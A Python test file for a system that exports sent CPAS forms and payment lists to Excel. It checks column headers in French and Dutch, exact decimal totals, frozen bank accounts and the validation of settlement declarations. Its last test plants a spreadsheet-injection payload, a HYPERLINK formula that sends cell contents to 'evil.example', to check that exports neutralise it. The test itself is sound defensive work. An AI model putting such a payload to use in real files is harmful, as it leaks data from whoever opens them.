"""Exports for the SPP IS: the sent forms of a measure (one row per CPAS) and the list of amounts
to recover and to pay with the bank account frozen at sending; the ``settlement:`` declaration
that names those amounts; ``rapport-unique export``."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

import engine
from engine import codes
from engine.cli import main
from engine.exports import FIRST_ROW
from engine.exports import HEADER_ROW
from engine.lifecycle import Refused
from engine.store import tables

from .conftest import ROOT
from .conftest import SCHEMAS

COVID = ("covid50", 2020)
COVID_ARGS = ["covid50", "2020"]
COVID_TEXT = (SCHEMAS / "covid50" / "2020.yaml").read_text(encoding="utf-8")
IBAN_A, IBAN_B, IBAN_LATER = "BE68539007547034", "BE71096123456769", "BE62510007547061"


def actor(service, name):
    return service.actor_by_username(name)


def add_cpas(service, nis, advance, *, signers=True):
    """A CPAS with its pre-filled advance, an extension (covid50 closed in 2021) and, unless
    ``signers`` is false, an agent, a president and a secretary of its own."""
    service.create_cpas(nis, f"CPAS {nis}", f"OCMW {nis}")
    service.set_prefilled(nis, *COVID, {"advance": advance})
    service.extend(actor(service, "admin"), nis, *COVID, datetime.date(2027, 2, 1))
    for role in ("agent", "president", "secretary") if signers else ("agent",):
        service.create_user(f"{role}{nis}", f"{role.title()} {nis}", "demo")
        service.grant(f"{role}{nis}", nis, role)


def send(service, nis, justified, iban, *, agent=None, president=None, secretary=None,
         extra=None):
    """Fill in, give the bank account, save and sign twice: the form is sent."""
    agent = actor(service, agent or f"agent{nis}")
    service.update_cpas(agent, nis, {"iban": iban, "bic": "GEBABEBB",
                                     "contact_name": f"Contact {nis}",
                                     "contact_email": f"c{nis}@cpas.be"})
    view = service.form(agent, nis, *COVID)
    saved = service.save(agent, nis, *COVID, {"justified": justified, **(extra or {})},
                         view.version_number)
    once = service.sign(actor(service, president or f"president{nis}"), nis, *COVID,
                        "president", saved.content_hash)
    sent = service.sign(actor(service, secretary or f"secretary{nis}"), nis, *COVID,
                        "secretary", once.content_hash)
    assert sent.state == "SENT"
    return sent


@pytest.fixture
def campaign(service):
    """Three covid50 forms sent — 99999 recovers 0,10, 99998 is paid 0,20, 99997 recovers
    0,20 (so that the totals are 0,1 + 0,2 exactly) — and one draft (99996)."""
    for nis, role in (("99998", "president"), ("99998", "secretary")):
        service.create_user(f"{role}{nis}", f"{role.title()} {nis}", "demo")
        service.grant(f"{role}{nis}", nis, role)
    add_cpas(service, "99997", "1000.00")
    add_cpas(service, "99996", "500.00", signers=False)
    send(service, "99999", "12499,90", IBAN_A, agent="agent", president="president",
         secretary="secretary")  # advance 12 500,00 → 0,10 to recover
    send(service, "99998", "3400,20", IBAN_B, agent="agent2")  # advance 3 400,00 → 0,20 to pay
    send(service, "99997", "999,80", IBAN_B)  # advance 1 000,00 → 0,20 to recover
    agent = actor(service, "agent99996")
    service.save(agent, "99996", *COVID, {"justified": "100"}, 0)  # saved, never signed
    return service


def read(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    header = rows[HEADER_ROW - 1]
    body = [dict(zip(header, r, strict=False)) for r in rows[FIRST_ROW - 1:]]
    return sheet, header, body


def cents(value) -> Decimal:
    """A number cell read back (openpyxl gives a float) as the exact amount it must be."""
    return Decimal(repr(value)).quantize(Decimal("0.01"))


def money_xml(data: bytes) -> str:
    """The worksheet's XML, to check the numbers as written (not as a float reads them)."""
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


# --- the forms export -----------------------------------------------------------------------


def test_forms_one_row_per_sent_cpas_with_the_sent_values(campaign):
    data = campaign.export_forms(actor(campaign, "admin"), *COVID)
    assert data.rows == 3 and data.filename == "covid50-2020-forms-fr.xlsx"
    sheet, header, body = read(data)
    assert sheet.title == "covid50 2020" and sheet.freeze_panes == "D3"
    assert "Covid-19" in sheet.cell(1, 1).value and "(3)" in sheet.cell(1, 1).value
    assert all(sheet.cell(HEADER_ROW, c).font.b for c in range(1, len(header) + 1))
    assert sheet.column_dimensions["A"].width >= 9
    assert [r["Code INS"] for r in body] == ["99997", "99998", "99999"]  # not the draft
    assert header[:10] == ["Code INS", "CPAS (nom en français)", "CPAS (nom en néerlandais)",
                           "Envoyé le", "Président : nom", "Président : signé le",
                           "Secrétaire / directeur général : nom",
                           "Secrétaire / directeur général : signé le",
                           "Empreinte du contenu (SHA-256)", "Version du schéma"]
    recover = "À récupérer auprès du CPAS — Montant à rembourser au SPP IS"
    pay = "À payer au CPAS — Montant à payer par le SPP IS"
    assert header[10:] == ["Montant de l'avance", "Montant justifié", recover, pay]
    demo_row = body[2]
    assert (demo_row["CPAS (nom en français)"], demo_row["CPAS (nom en néerlandais)"]) == (
        "CPAS de Démo", "OCMW Demo")
    assert demo_row["Président : nom"] == "Paul Président"
    assert demo_row["Secrétaire / directeur général : nom"] == "Sophie Secrétaire"
    assert isinstance(demo_row["Envoyé le"], datetime.datetime)
    assert isinstance(demo_row["Président : signé le"], datetime.datetime)
    assert len(demo_row["Empreinte du contenu (SHA-256)"]) == 64
    assert len(demo_row["Version du schéma"]) == 12
    assert [cents(r["Montant de l'avance"]) for r in body] == [
        Decimal("1000.00"), Decimal("3400.00"), Decimal("12500.00")]
    assert [cents(r["Montant justifié"]) for r in body] == [
        Decimal("999.80"), Decimal("3400.20"), Decimal("12499.90")]
    assert [cents(r[recover]) for r in body] == [Decimal("0.20"), Decimal("0.00"),
                                                 Decimal("0.10")]
    assert [cents(r[pay]) for r in body] == [Decimal("0.00"), Decimal("0.20"), Decimal("0.00")]
    column = header.index("Montant justifié") + 1
    assert sheet.cell(FIRST_ROW, column).number_format == "#,##0.00"
    settlement = header.index(recover) + 1
    assert sheet.cell(HEADER_ROW, settlement).fill.fgColor.rgb.endswith("FFF2CC")  # marked
    xml = money_xml(data)
    assert "<v>12499.90</v>" in xml or "<v>12499.9</v>" in xml  # the exact decimal, written


def test_forms_headers_in_dutch(campaign):
    _, header, body = read(campaign.export_forms(actor(campaign, "admin"), *COVID, "nl"))
    assert header[0] == "NIS-code" and "Verantwoord bedrag" in header
    assert header[-1] == "Aan het OCMW te betalen — Door de POD MI te betalen"
    assert len(body) == 3


def test_forms_sent_at_and_signatures_in_brussels_time(campaign):
    s = tables.submissions
    with campaign.store.transaction() as conn:
        sent_at = conn.execute(sa.select(s.c.sent_at).where(s.c.state == "SENT")).scalars()\
            .first()
    _, _, body = read(campaign.export_forms(actor(campaign, "admin"), *COVID))
    utc = sent_at if sent_at.tzinfo else sent_at.replace(tzinfo=datetime.UTC)
    local = utc.astimezone(datetime.timezone(datetime.timedelta(hours=1)))  # winter: UTC+1
    assert any(abs(r["Envoyé le"] - local.replace(tzinfo=None)) < datetime.timedelta(minutes=1)
               for r in body)


def test_forms_of_several_schema_versions_take_the_union_of_their_columns(service):
    add_cpas(service, "99997", "1000.00")
    send(service, "99997", "900", IBAN_A)  # with the shipped version
    newer = COVID_TEXT.replace("  - id: settlement\n", """  - id: remarks
    title: {fr: "Remarques", nl: "Opmerkingen"}
    fields:
      - {id: remark, type: text, label: {fr: "Remarque", nl: "Opmerking"}}
  - id: settlement
""")
    service.catalog.publish_text(newer, str(SCHEMAS / "covid50" / "2020.yaml"))
    send(service, "99999", "12000", IBAN_A, agent="agent", president="president",
         secretary="secretary", extra={"remark": "ok"})
    _, header, body = read(service.export_forms(actor(service, "admin"), *COVID))
    assert header[10:12] == ["Montant de l'avance", "Montant justifié"]
    assert header[12] == "Remarque"  # the latest version's order
    assert [r["Remarque"] for r in body] == [None, "ok"]  # the older version had no remark
    assert len({r["Version du schéma"] for r in body}) == 2


def test_no_form_sent_gives_the_headers_only(service):
    data = service.export_forms(actor(service, "inspector"), "piis", 2025)
    _, header, body = read(data)
    assert data.rows == 0 and body == [] and header[0] == "Code INS"
    assert "Montant à rembourser au SPP IS" in header[-1]


def test_who_may_export(campaign):
    for name in ("agent", "president", "agent2"):
        with pytest.raises(Refused) as refused:
            campaign.export_forms(actor(campaign, name), *COVID)
        assert refused.value.code == "EXPORT_SPP_ONLY"
        assert refused.value.message("fr") != refused.value.message("nl")
        with pytest.raises(Refused):
            campaign.export_payments(actor(campaign, name), *COVID)
    assert read(campaign.export_forms(actor(campaign, "inspector"), *COVID))[2]
    assert read(campaign.export_payments(actor(campaign, "inspector"), *COVID))[2]


def test_an_unknown_measure_is_refused(service):
    with pytest.raises(Refused) as refused:
        service.export_forms(actor(service, "admin"), "nosuch", 2020)
    assert refused.value.code == "NO_SUCH_FORM"
    with pytest.raises(Refused) as refused:
        service.export_payments(actor(service, "admin"), "covid50", 2019)
    assert refused.value.code == "NO_SUCH_FORM"


# --- the payments list ----------------------------------------------------------------------


def test_payments_amounts_bank_account_frozen_at_sending_and_exact_totals(campaign):
    agent = actor(campaign, "agent")
    assert campaign.update_cpas(agent, "99999", {"iban": IBAN_LATER}) == {}  # after sending
    assert campaign.cpas(agent, "99999")["iban"] == IBAN_LATER
    data = campaign.export_payments(actor(campaign, "admin"), *COVID)
    assert data.rows == 3
    sheet, header, body = read(data)
    assert header == ["Code INS", "CPAS", "Mesure", "Année", "À récupérer auprès du CPAS",
                      "À payer au CPAS", "IBAN", "BIC", "Ancien numéro de compte",
                      "Personne de contact", "E-mail de contact", "Téléphone de contact",
                      "Envoyé le"]
    lines, total = body[:-1], body[-1]
    assert [(r["Code INS"], r["CPAS"], r["Mesure"], r["Année"]) for r in lines] == [
        ("99997", "CPAS 99997", "covid50", 2020), ("99998", "CPAS de Test", "covid50", 2020),
        ("99999", "CPAS de Démo", "covid50", 2020)]
    demo_line = lines[2]
    assert demo_line["IBAN"] == IBAN_A  # frozen at sending, not the current account
    assert (demo_line["BIC"], demo_line["Personne de contact"]) == ("GEBABEBB",
                                                                   "Contact 99999")
    assert [cents(r["À récupérer auprès du CPAS"]) for r in lines] == [
        Decimal("0.20"), Decimal("0.00"), Decimal("0.10")]
    assert [cents(r["À payer au CPAS"]) for r in lines] == [
        Decimal("0.00"), Decimal("0.20"), Decimal("0.00")]
    assert total["CPAS"] == "Total"
    assert cents(total["À récupérer auprès du CPAS"]) == Decimal("0.30")  # 0.1 + 0.2
    assert cents(total["À payer au CPAS"]) == Decimal("0.20")
    xml = money_xml(data)
    assert "<v>0.30</v>" in xml or "<v>0.3</v>" in xml
    assert "0.30000000000000004" not in xml
    last = len(body) + FIRST_ROW - 1
    assert sheet.cell(last, 2).font.b and sheet.cell(last, 5).number_format == "#,##0.00"
    # and the forms export shows what was sent too (the frozen values)
    _, _, forms = read(campaign.export_forms(actor(campaign, "admin"), *COVID))
    assert len(forms) == 3


def test_payments_leave_out_forms_with_nothing_to_recover_or_pay(service):
    add_cpas(service, "99997", "1000.00")
    send(service, "99997", "1000", IBAN_A)  # exactly justified: nothing either way
    data = service.export_payments(actor(service, "admin"), *COVID)
    _, _, body = read(data)
    assert data.rows == 0 and len(body) == 1 and body[0]["CPAS"] == "Total"
    assert cents(body[0]["À récupérer auprès du CPAS"]) == Decimal("0.00")


def test_payments_need_a_settlement_declaration(service):
    undeclared = COVID_TEXT.split("\nsettlement:\n")[0] + "\n"
    service.catalog.publish_text(undeclared, str(SCHEMAS / "covid50" / "2020.yaml"))
    with pytest.raises(Refused) as refused:
        service.export_payments(actor(service, "admin"), *COVID)
    assert refused.value.code == "SETTLEMENT_UNDECLARED"
    assert "settlement:" in refused.value.message("fr")
    assert "settlement:" in refused.value.message("nl")
    assert refused.value.message("fr") != refused.value.message("nl")


def test_payments_of_every_measure_of_a_year(campaign):
    data = campaign.export_payments(actor(campaign, "admin"), None, 2020)
    _, _, body = read(data)
    assert data.rows == 3 and {r["Mesure"] for r in body[:-1]} == {"covid50"}
    data = campaign.export_payments(actor(campaign, "admin"), None, None, "nl")
    _, header, _ = read(data)
    assert data.rows == 3 and header[4] == "Terug te vorderen van het OCMW"


# --- the command line ------------------------------------------------------------------------


def test_cli_writes_both_files(campaign, tmp_path):
    database = ["--database", campaign.database_url, "--schemas", str(SCHEMAS)]
    out = tmp_path / "forms.xlsx"
    result = CliRunner().invoke(main, ["export", "forms", *COVID_ARGS, "-o", str(out),
                                       *database])
    assert result.exit_code == 0, result.output
    assert str(out) in result.output and "3 formulaire(s)" in result.output
    assert len(read(out.read_bytes())[2]) == 3
    out = tmp_path / "payments.xlsx"
    result = CliRunner().invoke(main, ["export", "payments", *COVID_ARGS, "-o", str(out),
                                       "--lang", "nl", *database])
    assert result.exit_code == 0, result.output
    assert "3 terug te vorderen of te betalen regel(s)" in result.output
    assert read(out.read_bytes())[1][0] == "NIS-code"


def test_cli_unknown_measure(service, tmp_path):
    out = tmp_path / "x.xlsx"
    result = CliRunner().invoke(main, ["export", "forms", "nosuch", "2020", "-o", str(out),
                                       "--database", service.database_url,
                                       "--schemas", str(SCHEMAS)])
    assert result.exit_code == 1
    assert codes.message("NO_SUCH_FORM", "fr", measure="nosuch", year=2020) in result.output
    assert not out.exists()


# --- settlement: in the schema language -----------------------------------------------------

EXAMPLE = (ROOT / "tests" / "schema_examples" / "invalid" / "SETTLEMENT_SAME.yaml").read_text(
    encoding="utf-8").split("\nsettlement:\n")[0]


def load(settlement: str, plugins):
    text = EXAMPLE + "\nsettlement:\n" + settlement
    loaded = engine.load_measure_text(text, "example.yaml", plugins)
    lines = text.splitlines()
    return loaded, lines


def line_of(lines, text) -> int:
    return next(i for i, line in enumerate(lines, 1) if line.strip() == text)


def test_a_valid_settlement_is_in_the_model(plugins):
    loaded, _ = load("  to_recover: to_reimburse\n  to_pay: to_receive\n", plugins)
    assert loaded.problems == []
    assert loaded.measure.settlement.to_recover == "to_reimburse"
    assert loaded.measure.settlement.names == ("to_reimburse", "to_receive")
    only, _ = load("  to_pay: to_receive\n", plugins)
    assert (only.measure.settlement.to_recover, only.measure.settlement.to_pay) == (
        None, "to_receive")


@pytest.mark.parametrize("settlement, code, at, said", [
    ("  to_recover: to_reimbursed\n", "SETTLEMENT_UNKNOWN", "to_recover: to_reimbursed",
     "(vouliez-vous dire « to_reimburse » ?)"),
    ("  to_recover: comment\n", "SETTLEMENT_NOT_MONEY", "to_recover: comment",
     "« comment » est un champ de type text"),
    ("  to_recover: to_reimburse\n  to_pay: eligible\n", "SETTLEMENT_NOT_MONEY",
     "to_pay: eligible", "une colonne du tableau « expenses »"),
    ("  to_pay: total_eligible\n", "SETTLEMENT_NOT_MONEY", "to_pay: total_eligible",
     "un total de tableau"),
    ("  to_recover: advance\n", "SETTLEMENT_NOT_MONEY", "to_recover: advance",
     "une valeur pré-remplie"),
    ("  to_recover: rate\n", "SETTLEMENT_NOT_MONEY", "to_recover: rate", "un paramètre"),
    ("  to_recover: to_receive\n  to_pay: to_receive\n", "SETTLEMENT_SAME",
     "to_pay: to_receive", "le même champ « to_receive »"),
    ("  to_recover: to_reimburse\n  to_refund: to_receive\n", "UNKNOWN_KEY",
     "to_refund: to_receive", "« to_refund »"),
    ("  {}\n", "STRUCTURE", "{}", "au moins 1 clé(s)"),
])
def test_settlement_problems_at_their_line(plugins, settlement, code, at, said):
    loaded, lines = load(settlement, plugins)
    assert loaded.measure is None
    assert [(p.code, p.line) for p in loaded.problems] == [(code, line_of(lines, at))]
    assert said in loaded.problems[0].message("fr")
    assert loaded.problems[0].message("nl") != loaded.problems[0].message("fr")


def test_every_shipped_schema_declares_its_settlement():
    chosen = {}
    for path in sorted(SCHEMAS.glob("*/*.yaml")):
        if path.parent.name.startswith("_") or path.name.endswith(".tests.yaml"):
            continue
        measure = engine.measure_from(path)
        chosen[path.parent.name] = measure.settlement and (measure.settlement.to_recover,
                                                           measure.settlement.to_pay)
    assert chosen == {
        "covid50": ("to_reimburse", "to_receive"), "redi": ("to_reimburse", None),
        "fge": ("unused", None), "personnel": ("to_reimburse", None),
        "pas": ("to_reimburse", None), "piis": ("to_reimburse", None),
        "piis_pt": ("to_reimburse", None)}


def test_a_text_typed_by_a_cpas_is_never_a_formula_in_an_export(service):
    add_cpas(service, "99997", "1000.00")
    send(service, "99997", "900", IBAN_A)
    agent = actor(service, "agent99997")
    # the frozen contact is what the payments list shows: sent again after a reopening, with a
    # contact name that a spreadsheet would run as a formula
    service.reopen(actor(service, "admin"), "99997", *COVID, "contact à corriger")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"cliquez")'
    service.update_cpas(agent, "99997", {"iban": IBAN_A, "bic": "GEBABEBB",
                                         "contact_name": hostile})
    view = service.form(agent, "99997", *COVID)
    once = service.sign(actor(service, "president99997"), "99997", *COVID, "president",
                        view.content_hash)
    service.sign(actor(service, "secretary99997"), "99997", *COVID, "secretary",
                 once.content_hash)
    data = service.export_payments(actor(service, "admin"), *COVID)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
    assert "<f>" not in money_xml(data)  # no formula anywhere in the sheet
